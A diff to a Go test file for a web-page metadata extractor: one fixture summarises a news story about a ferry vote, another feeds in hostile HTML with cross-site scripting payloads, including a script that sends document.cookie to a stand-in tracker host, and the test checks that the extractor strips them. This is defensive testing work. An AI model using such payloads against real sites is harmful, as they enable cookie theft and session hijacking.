@@ -22,7 +22,7 @@ func TestFromPageNewsPage(t *testing.T) {
 		title:   "Harbour Town votes to keep its night ferry",
 		url:     "https://gazette.example.com/news/2024/05/night-ferry",
 		author:  "Ana Reyes",
-		summary: "Councillors backed the late service after a petition signed by 4,000 residents — and a long night of debate.",
+		summary: "Harbour Town council voted on Tuesday night to keep the late ferry to the islands running for at least another three years, reversing a plan to cut the service in the autumn.", // issue 9: og:description is a dek the page does not print
 		image:   "https://gazette.example.com/media/2024/05/ferry-at-night.jpg",
 		date:    time.Date(2024, 5, 14, 17, 30, 0, 0, time.UTC),
 		tags:    []string{"Transport", "Harbour Town"},
@@ -124,7 +124,7 @@ func TestFromPageHostile(t *testing.T) {
 <title>Free &lt;script&gt;alert(1)&lt;/script&gt; Prizes</title>
 <meta property="og:title" content="Win &lt;b onmouseover=alert(1)&gt;big&lt;/b&gt;">
 <meta property="og:image" content="javascript:alert(document.cookie)">
-<meta property="og:description" content="<script>alert(1)</script>Click here">
+<meta property="og:description" content="<script>alert(1)</script>Second paragraph, with a link and an image.">
 <meta name="author" content="Eve&#x202e;evil">
 <script>fetch("https://tracker.example/?c=" + document.cookie)</script>
 <style>p { display: block }</style>
@@ -143,7 +143,7 @@ func TestFromPageHostile(t *testing.T) {
 	if a.Image != "" {
 		t.Errorf("image = %q, want none", a.Image)
 	}
-	if a.Title != "Win big" || a.Summary != "Click here" || a.Author != "Eveevil" {
+	if a.Title != "Win big" || a.Summary != "Second paragraph, with a link and an image." || a.Author != "Eveevil" {
 		t.Errorf("title, summary, author = %q, %q, %q", a.Title, a.Summary, a.Author)
 	}
 	for _, bad := range []string{"alert", "script", "tracker", "JavaScript", "display", "<", "onclick"} {
